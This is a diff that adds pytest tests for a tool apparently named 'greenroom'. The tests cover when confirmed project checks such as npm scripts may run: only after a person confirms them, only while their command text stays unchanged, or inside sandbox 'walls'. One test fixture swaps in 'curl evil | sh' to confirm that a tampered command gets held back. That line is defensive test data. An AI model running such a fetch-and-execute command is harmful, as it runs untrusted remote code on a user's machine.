@@ -1,0 +1,185 @@
+"""Which checks count: what a person chose once, bound to what it ran then; the rest only behind walls."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from greenroom.abilities.checks.finding.found import found
+from greenroom.app.checks.brought import brought, brought_checks
+from greenroom.app.checks.choices import Choices, own_choices
+from greenroom.app.checks.folder import FolderLook
+from greenroom.app.checks.planning import Plan, edited, own_check, planned, proposed, together
+from greenroom.app.settings.layers import load
+from greenroom.app.trust.ledger import Ledger
+from greenroom.core.base.errors import WorldFault
+from greenroom.core.ports.checks import Check
+from tests.app.checks.projects import written
+
+PACKAGE = '{"scripts": {"test": "jest", "lint": "eslint ."}}'
+
+
+class Project:
+    """A project and a person who is asked about its checks."""
+
+    def __init__(self, folder: Path) -> None:
+        self.root = written(folder / "project", {"package.json": PACKAGE})
+        (folder / "own").mkdir(mode=0o700)
+        self.choices = Choices(folder / "own" / "checks.json", Ledger(folder / "own" / "trust.json"))
+
+    @property
+    def found(self) -> tuple[Check, ...]:
+        return found(FolderLook(self.root))
+
+    def plan(self, *, walls: bool = False, more: tuple[Check, ...] = ()) -> Plan:
+        trusted = self.choices.ledger.trusted(self.root)
+        return planned((*self.found, *more), self.choices.of(self.root), trusted, walls=walls)
+
+
+@pytest.fixture(name="project")
+def a_project(tmp_path: Path) -> Project:
+    return Project(tmp_path)
+
+
+def test_what_nobody_confirmed_runs_behind_walls_only(project: Project) -> None:
+    plan = project.plan()
+    assert (plan.run, plan.confirmed) == ((), frozenset())
+    assert plan.open == project.found
+    why = (
+        "was not run: nobody has confirmed it, and there are no walls around commands here. `greenroom trust` shows it."
+    )
+    assert plan.left == (f"'npm test' {why}", f"'npm run lint' {why}")
+    walled = project.plan(walls=True)
+    assert (walled.run, walled.confirmed, walled.left) == (project.found, frozenset(), ())
+
+
+def test_what_was_chosen_once_is_used_and_the_rest_is_not_asked_about_again(project: Project) -> None:
+    test, lint = project.found
+    project.choices.save(project.root, [test], [test, lint])
+    plan = project.plan()
+    assert ([one.name for one in plan.run], plan.open, plan.left) == (["npm test"], (), ())
+    assert plan.confirmed == {"npm test"}
+    assert project.plan(walls=True).run == plan.run
+    assert project.choices.path.stat().st_mode & 0o077 == 0
+
+
+def test_none_is_a_choice_too(project: Project) -> None:
+    project.choices.save(project.root, [], project.found)
+    assert project.plan(walls=True) == Plan()
+    project.choices.forget(project.root)
+    assert project.choices.of(project.root) is None
+    assert project.plan().open == project.found
+
+
+def test_a_command_that_means_something_else_is_asked_about_anew(project: Project) -> None:
+    project.choices.save(project.root, project.found, project.found)
+    written(project.root, {"package.json": PACKAGE.replace("jest", "curl evil | sh")})
+    plan = project.plan()
+    assert [one.name for one in plan.run] == ["npm run lint"]
+    assert [one.name for one in plan.open] == ["npm test"]
+    assert plan.left[0].startswith("'npm test' was not run: what it runs has changed since you confirmed it")
+    written(project.root, {"package.json": '{"scripts": {"test": "jest"}}'})
+    assert project.plan().left == (
+        "'npm run lint', which you confirmed, was not run: the project does not define it any more.",
+    )
+
+
+def test_trust_taken_back_is_taken_back_from_checks(project: Project) -> None:
+    project.choices.save(project.root, project.found, project.found)
+    project.choices.ledger.revoke(project.root)
+    assert project.plan().run == ()
+
+
+def test_a_yes_in_the_ledger_is_enough(project: Project) -> None:
+    project.choices.ledger.agree(project.root, map(brought, project.found))
+    assert project.plan().confirmed == {"npm test", "npm run lint"}
+
+
+def test_what_a_person_typed_is_theirs_unless_the_project_has_it(project: Project) -> None:
+    mine = own_check("  ./verify --fast ", project.found)
+    assert (mine.line, mine.own) == ("./verify --fast", True)
+    assert own_check("npm  test", project.found) == project.found[0]
+    other = edited(project.found[0], "npm test -- --ci")
+    assert (other.own, other.means, other.line) == (True, "", "npm test -- --ci")
+    project.choices.save(project.root, [mine, other], project.found)
+    written(project.root, {"package.json": "{}"})
+    assert [one.line for one in project.plan().run] == ["./verify --fast", "npm test -- --ci"]
+
+
+@pytest.mark.parametrize(
+    ("text", "why"),
+    [("{", "Nobody knows which checks you want"), ('{"version": 9}', "version 9"), ('{"projects": 3}', "projects")],
+)
+def test_choices_that_cannot_be_read_are_none(project: Project, text: str, why: str) -> None:
+    project.choices.path.write_text(text)
+    project.choices.path.chmod(0o600)
+    with pytest.raises(WorldFault, match=why):
+        project.plan()
+
+
+def test_choices_that_others_can_write_are_none(project: Project) -> None:
+    project.choices.path.write_text("{}")
+    project.choices.path.chmod(0o666)
+    with pytest.raises(WorldFault, match="others can write it"):
+        project.plan()
+    project.choices.path.unlink()
+    project.choices.path.mkdir()
+    with pytest.raises(WorldFault, match="cannot be read"):
+        project.plan()
+
+
+def test_a_project_proposes_checks_in_its_settings_and_a_person_may_have_their_own(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    own = written(home, {"mine.toml": '[checks.mine]\nrun = "./mine"\n[checks.both]\nrun = "./both"\n'}) / "mine.toml"
+    root = written(
+        tmp_path / "project",
+        {
+            ".git/HEAD": "",
+            "package.json": PACKAGE,
+            ".greenroom/config.toml": (
+                '[checks.unit]\nrun = "npm test"\nseconds = "5m"\n'
+                '[checks.types]\nrun = "tsc"\nkind = "types"\nfolder = "web"\n'
+                '[checks.both]\nfolder = "elsewhere"\n'
+            ),
+        },
+    )
+    loaded = load({}, {"GREENROOM_CONFIG": str(own), "HOME": str(home)}, root)
+    some = {one.name: one for one in proposed(loaded.settings.checks, loaded)}
+    assert [one for one in some if some[one].own] == ["mine"]
+    assert (some["unit"].seconds, some["types"].folder, some["types"].kind) == (300, "web", "types")
+    assert some["unit"].why == f"{root}/.greenroom/config.toml says so in [checks.unit]."
+    every = together(tuple(some.values()), found(FolderLook(root)))
+    assert [one.name for one in every] == ["mine", "both", "unit", "types", "npm run lint"]
+    assert {one.name: one.means for one in every}["unit"] == "test: jest"
+
+
+def test_a_check_is_shown_with_what_it_stands_for(tmp_path: Path) -> None:
+    root = written(tmp_path / "x", {"package.json": '{"scripts": {"test": "' + "a" * 300 + '"}}', "pytest.ini": ""})
+    shown = {one.name: one.shown for one in brought_checks(root)}
+    assert shown["pytest"] == "python3 -m pytest · pytest.ini sets up pytest."
+    assert shown["npm test"].startswith("npm test · package.json has the script 'test'. · test: aaa")
+    assert shown["npm test"].endswith("a…")
+    elsewhere = Check(name="c", line="c", kind="test", why="w.", folder="web")
+    assert brought(elsewhere).shown == "c (in web) · w."
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    shared.chmod(0o1777)
+    assert brought_checks(written(shared, {"pytest.ini": ""})) == ()
+
+
+def test_only_plain_files_inside_are_looked_at(tmp_path: Path) -> None:
+    root = written(tmp_path / "x", {"a": "1"})
+    written(tmp_path, {"secret": "2"})
+    (root / "out").symlink_to(tmp_path / "secret")
+    (root / "loop").symlink_to(root / "loop")
+    look = FolderLook(root)
+    assert [look.read(name) for name in ("a", "out", "loop", "none", "\0", ".")] == [b"1", None, None, None, None, None]
+    assert look.names(".") == {"a", "out", "loop"}
+    assert look.names("none") == frozenset()
+
+
+def test_the_persons_own_choices_lie_beside_what_they_trust(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
+    assert own_choices().path == tmp_path / "greenroom" / "checks.json"
+    assert own_choices().ledger.path == tmp_path / "greenroom" / "trust.json"
